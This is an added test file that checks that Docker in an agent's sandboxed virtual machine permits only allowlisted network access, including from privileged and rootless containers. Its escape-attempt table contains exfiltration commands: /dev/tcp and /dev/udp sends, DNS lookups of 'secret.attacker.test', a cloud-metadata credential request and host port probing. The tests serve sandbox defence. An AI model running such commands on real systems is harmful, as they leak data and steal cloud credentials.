@@ -1,0 +1,123 @@
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { expect } from "chai";
+import { ROOT } from "../support/sources.ts";
+import { startMachineInWorld, type MachineInWorld } from "../support/world/machine-in-world.ts";
+import { FAR_AWAY, TCP_PORTS, UDP_PORTS } from "../support/world/world.ts";
+
+const MINUTE = 60_000;
+const HELLO = "hello from outside\n";
+const SMALL_IMAGE = readFileSync(join(ROOT, "test/support/docker-image.sh"), "utf8");
+const COMPOSE = `
+services:
+  web:
+    image: small
+    command: [/bin/sh, -c, "echo from the web >/index.html; exec /bin/busybox httpd -f -p 80 -h /"]
+    ports: ["8080:80"]
+  client:
+    image: small
+    command: [/bin/sh, -c, "until wget -qO- http://web/; do sleep 1; done; sleep 1000"]
+    depends_on: [web]
+`;
+
+/** Ways out that a container may try; each has to end by itself. */
+const WAYS_OUT: Readonly<Record<string, string>> = {
+  "a name that is not allowed": "curl -sSkm 10 https://denied.test/; curl -sSm 10 http://denied.test/",
+  "every port of an address": TCP_PORTS.map((port) => `timeout 3 bash -c 'echo >/dev/tcp/${FAR_AWAY}/${port}'`).join("; "),
+  "datagrams to an address": UDP_PORTS.map((port) => `echo secret >/dev/udp/${FAR_AWAY}/${port}`).join("; "),
+  "another name server": `nslookup secret.attacker.test ${FAR_AWAY}`,
+  "its own name server, for what is not allowed": "getent hosts secret.attacker.test",
+  "a ping": `ping -c 1 -W 2 ${FAR_AWAY}`,
+  "the address where clouds serve credentials": "curl -sSm 5 http://169.254.169.254/latest/meta-data/",
+  "the host, by the router": "for port in 22 80 111 2375 8080; do timeout 3 bash -c \"echo >/dev/tcp/10.0.2.2/$port\"; done",
+  "TLS for a name that is not allowed, at an allowed one's address": "curl -sSkm 10 --connect-to denied.test:443:allowed.test:443 https://denied.test/",
+};
+/** What a container may be given, and what follows from it here: nothing. */
+const KINDS: Readonly<Record<string, string>> = {
+  "a container": "",
+  "a privileged container in the guest's own network": "--privileged --network host --pid host",
+};
+
+describe("Docker in a machine, in a world where every address is a witness", () => {
+  let machine: MachineInWorld;
+
+  before(async function () {
+    this.timeout(15 * MINUTE);
+    machine = await startMachineInWorld({ plugins: { claude: false, docker: true }, machine: { memory: "3GiB" } });
+    await machine.bash(SMALL_IMAGE);
+  });
+  after(async () => await machine?.[Symbol.asyncDispose]());
+
+  it("is there for the agent before its first command, with compose and buildx, without sudo", async () => {
+    const versions = await machine.bash("docker version --format '{{.Server.Version}}' && docker compose version --short && docker buildx version && id -nG");
+    expect(versions).to.match(/^\d+\..*\n\d+\..*\n.*buildx.*\n.*docker/);
+  });
+
+  it("fetches in a build what is allowed, trusting as the guest does, and leaves nothing of that in the image", async () => {
+    const arrived = await machine.arrivingDuring(() => build("RUN curl -sS https://allowed.test/hello >/fetched"));
+    expect(arrived.map(({ protocol, what }) => `${protocol} ${what}`)).to.deep.equal(["tcp 127.0.0.1:443", "https allowed.test/hello"]);
+    expect(await machine.bash("docker run --rm built cat /fetched")).to.equal(HELLO);
+    expect(await machine.bash("docker image inspect built --format '{{.Config.Env}}'")).to.equal("[PATH=/usr/bin:/bin]\n");
+  });
+
+  it("fetches in a build nothing that is not allowed", async () => {
+    const said = await machine.nothingArrivesDuring(() => build("RUN curl -sSk https://denied.test/hello >/fetched", false));
+    expect(said).to.match(/did not complete successfully|exit code/);
+  });
+
+  it("leaves a container's own choice of authorities alone", async () => {
+    expect(await machine.bash("docker run --rm -e CURL_CA_BUNDLE=/mine small bash -c 'echo $CURL_CA_BUNDLE'")).to.equal("/mine\n");
+  });
+
+  for (const [kind, options] of Object.entries(KINDS)) {
+    it(`lets ${kind} reach what is allowed`, async () => {
+      expect(await machine.bash(`docker run --rm ${options} small curl -sS https://allowed.test/hello`)).to.equal(HELLO);
+    });
+
+    it(`lets nothing else out of ${kind}`, async () => {
+      const script = Object.values(WAYS_OUT).map((way) => `(${way})`).join("\n");
+      await machine.nothingArrivesDuring(() => machine.start(["docker", "run", "--rm", "-i", ...options.split(" ").filter(Boolean), "small", "bash"], "agent", script).ended);
+    });
+  }
+
+  it("runs two services that compose couples, publishes a port to the guest, and lends the project", async () => {
+    const script = `cat >/tmp/compose.yaml; cd /tmp; docker compose -f compose.yaml up -d 2>&1; curl -sS --retry 20 --retry-connrefused --retry-all-errors localhost:8080/
+      until docker compose -f compose.yaml logs client | grep -q 'from the web'; do sleep 1; done; docker compose -f compose.yaml down -t 1 2>&1`;
+    const { status, stdout, stderr } = await machine.start(["bash", "-c", script], "agent", COMPOSE).ended;
+    expect(status, stdout + stderr).to.equal(0);
+    expect(stdout).to.include("from the web");
+    await machine.bash("docker run --rm -v \"$PWD:/lent\" --user 1000:1000 small bash -c 'echo from a container >/lent/made'");
+    expect(readFileSync(join(machine.place.project, "made"), "utf8")).to.equal("from a container\n");
+  });
+
+  /** Builds the image "built" with one step; answers what was said. */
+  async function build(step: string, succeeds = true): Promise<string> {
+    const script = "docker build --progress plain --no-cache -t built - 2>&1";
+    const { status, stdout } = await machine.start(["bash", "-c", script], "agent", `FROM small\n${step}\n`).ended;
+    expect(status === 0, stdout).to.equal(succeeds);
+    return stdout;
+  }
+}).timeout(5 * MINUTE);
+
+describe("The agent's own Docker, without root", () => {
+  let machine: MachineInWorld;
+
+  before(async function () {
+    this.timeout(15 * MINUTE);
+    machine = await startMachineInWorld({ plugins: { claude: false, docker: true }, docker: { rootless: true }, machine: { memory: "3GiB" } });
+    await machine.bash(SMALL_IMAGE);
+  });
+  after(async () => await machine?.[Symbol.asyncDispose]());
+
+  it("runs containers whose root is the agent", async () => {
+    expect(await machine.bash("id -nG")).to.equal("agent\n");
+    const lines = (await machine.bash("docker run --rm small cat /proc/self/uid_map")).trim().split("\n");
+    expect(lines[0]?.trim().split(/ +/)).to.deep.equal(["0", "1000", "1"]);
+  });
+
+  it("reaches what is allowed, and nothing else", async () => {
+    expect(await machine.bash("docker run --rm small curl -sS https://allowed.test/hello")).to.equal(HELLO);
+    const script = Object.values(WAYS_OUT).map((way) => `(${way})`).join("\n");
+    await machine.nothingArrivesDuring(() => machine.start(["docker", "run", "--rm", "-i", "small", "bash"], "agent", script).ended);
+  });
+}).timeout(5 * MINUTE);
